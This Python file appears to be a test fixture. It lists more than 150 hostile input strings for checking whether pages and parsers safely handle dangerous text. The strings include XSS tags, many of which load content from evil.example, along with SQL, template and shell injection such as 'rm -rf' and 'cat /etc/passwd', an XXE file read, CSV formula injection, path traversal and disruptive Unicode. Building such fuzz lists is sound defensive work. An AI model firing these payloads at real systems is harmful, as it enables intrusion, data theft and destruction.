"""More than 150 texts that have broken pages, parsers and files.

Texts that contain `hit` set it if they run.
"""

# ruff: noqa: E501 (payloads are easier to compare side by side)

TAGS = [
    "<script>hit=1</script>", "<ScRiPt>hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>hit=1//",
    "</script><script>hit=1</script>", "<!--<script>hit=1</script>", "--><script>hit=1</script>", "<script/x>hit=1</script>",
    "<scr<script>ipt>hit=1</scr</script>ipt>", "<<script>hit=1;//<</script>", "<script>hit=1</script >", "\x00<script>hit=1</script>",
    "<img src=x onerror=hit=1>", "<img src=x onerror='hit=1'>", '"><img src=x onerror=hit=1>', "'><img src=x onerror=hit=1>",
    "<img src='http://evil.example/a.png'>", "<img/src/onerror=hit=1>", "<image src=x onerror=hit=1>", "<img src=x:x onerror=hit=1>",
    "<img srcset='x 1x' onerror=hit=1>", "<img src=`x` onerror=hit=1>", "<IMG SRC=X ONERROR=hit=1>", "<img src=x onload=hit=1 onerror=hit=1//",
    "<svg onload=hit=1>", "<svg/onload=hit=1>", "<svg><script>hit=1</script></svg>", "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=hit=1>'>", "<math><mtext><img src=x onerror=hit=1>", "<svg><style><img src=x onerror=hit=1>",
    "<iframe src=javascript:parent.hit=1>", "<iframe srcdoc='<script>parent.hit=1</script>'>", "<iframe src=//evil.example>",
    "<object data=javascript:hit=1>", "<embed src=javascript:hit=1>", "<applet code=x>", "<frameset onload=hit=1>",
    "<body onload=hit=1>", "<html onclick=hit=1>", "<input autofocus onfocus=hit=1>", "<select autofocus onfocus=hit=1>",
    "<textarea autofocus onfocus=hit=1>", "<button autofocus onfocus=hit=1>x", "<details open ontoggle=hit=1>", "<marquee onstart=hit=1>",
    "<video><source onerror=hit=1>", "<audio src=x onerror=hit=1>", "<video poster=javascript:hit=1>", "<a href=javascript:hit=1>x</a>",
    "<a href='data:text/html,<script>hit=1</script>'>x", "<form action=javascript:hit=1><input type=submit autofocus>", "<keygen autofocus onfocus=hit=1>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style=background:url(//evil.example/y)>",
    "<p style='animation:x' onanimationstart=hit=1>", "<dialog open onclose=hit=1>", "<template><script>hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>", "<xmp><img src=x onerror=hit=1></xmp>", "<title></title><script>hit=1</script>",
    "</textarea><script>hit=1</script>", "</title><img src=x onerror=hit=1>", "</style><script>hit=1</script>", "]]><script>hit=1</script>",
    "<![CDATA[<script>hit=1</script>]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<x onclick=hit=1 tabindex=1 id=x>",
    "<div id=text>", "<p id=message>", "<img name=FG>", "<form id=FG_SCHEMA>", "<a id=localStorage>",
]  # fmt: skip
QUOTES = [
    "\" onmouseover=hit=1 x=\"", "' onfocus=hit=1 autofocus x='", "` onerror=hit=1 `", "\\\";hit=1;//", "';hit=1;//", "\\u003cscript\\u003ehit=1",
    "&lt;script&gt;hit=1&lt;/script&gt;", "&#60;img src=x onerror=hit=1&#62;", "%3Cscript%3Ehit=1%3C/script%3E", "javascript:hit=1", "jAvAsCrIpT:hit=1//",
    "java\nscript:hit=1", "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==", "vbscript:hit=1", "eval('hit=1')", "');hit=1;('",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${hit=1}", "`${hit=1}`", "{{constructor.constructor('hit=1')()}}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]", "@{hit=1}",
    "{0.__class__.__mro__}", "%s%s%s%n", "{}{}", "$(touch hit)", "`touch hit`", "; rm -rf hit", "| cat /etc/passwd",
]  # fmt: skip
DATA = [
    "__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "null", "NaN", "true", "-1", "0x1F", "1e400",
    '{"__proto__": {"hit": 1}}', '{"passage_id":1,"sentence_id":[1]}', "[1,2", '"', "\\", '",', "a,b\r\nc,d", '=HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "'; DROP TABLE submissions;--", "\" OR 1=1 --", "1); DELETE FROM items;", "../../etc/passwd", "C:\\x\\..\\y",
    "# heading", "[x](javascript:hit=1)", "![x](http://evil.example/x.png)", "**b** _i_ ~~s~~ `c`", "</s>", "question: x context: wikipage: y text: z answer:",
]  # fmt: skip
CHARACTERS = [
    "\u202eright to left", "\u2066isolate\u2069", "مرحبا بالعالم", "שלום", "\u200bzero\u200dwidth\ufeff", "e\u0301" * 40, "Z" + "\u0351" * 60, "😀👩‍👩‍👧🏳️‍🌈", "𝒳\U0010ffff",
    "\u2028hit=1\u2029", "\x01\x02\x07\x08\x1b[31m", "\x7f\x80\x9f\x85", "\r\n\r\n", "\u00a0\u3000\u2003x", "ﷺ" * 50, "ß ſ İ ı K",
]  # fmt: skip
LONG = ["x" * 20_000, "<b>" * 3000, "a " * 3000, "(" * 5000, "😀" * 2000, "\\" * 3000]
HOSTILE = [*TAGS, *QUOTES, *TEMPLATES, *DATA, *CHARACTERS, *LONG]
